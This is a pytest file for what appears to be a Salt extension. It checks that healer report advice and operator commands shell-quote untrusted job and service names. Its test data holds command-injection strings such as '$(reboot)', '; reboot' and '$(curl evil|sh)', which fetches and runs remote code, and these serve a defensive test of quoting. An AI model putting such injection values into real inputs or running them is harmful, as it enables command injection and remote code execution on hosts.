"""What people are told to copy is one word of a shell, whatever a thing is called."""

from __future__ import annotations

import re
import shlex

import pytest

from saltext.eos.policies.table import TABLE
from saltext.eos.utils import heal_report, heal_report_explain
from saltext.eos.utils.heal_state import Rule

NAMES = ["$(reboot)", "`reboot`", "web; reboot", "web'; reboot; '", 'web"', "web && reboot"]


def _advice(policy, name):
    held = {
        "state": "waiting", "why": "complete: it waits",
        "subject": dict.fromkeys(TABLE[policy]["key"], name),
    }  # fmt: skip
    rule = Rule("hold", f"job:{name}", "", "healer", 0.0)
    return " ".join(heal_report_explain._todo(held, policy, [], [], [rule]))


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("policy", sorted(TABLE))
def test_a_name_from_outside_never_is_a_command(policy, name):
    said = _advice(policy, name)
    rest = said.replace(shlex.quote(f"job:{name}"), "").replace(shlex.quote(name), "")
    assert name not in rest


def test_a_command_with_such_a_name_has_it_as_one_word():
    said = _advice("stale_registration", "_nomad-task-$(curl evil|sh)")
    (command,) = re.findall("`(consul services deregister[^`]*)`", said)
    assert shlex.split(command) == [
        "consul", "services", "deregister", "-id=_nomad-task-$(curl evil|sh)",
    ]  # fmt: skip


@pytest.mark.parametrize("name", NAMES)
def test_what_needs_a_person_has_such_a_name_as_one_word_too(name):
    """Mutation: put the name of what is held or frozen into its command as it is."""
    what = f"job:{name}"
    rule = {"what": what, "by": "healer", "reason": "r"}
    found = {
        "engine": {"alive": True, "state": "running", "why": "", "lag": 0}, "contended": [],
        "unanswered": [], "blocked": {}, "frozen": [rule], "held": [rule], "breakers": [],
    }  # fmt: skip
    commands = [one.split("`")[1:] for one in heal_report._needs(found)]
    assert len(commands) == 2
    for words in commands:
        assert shlex.quote(what) in "`".join(words)
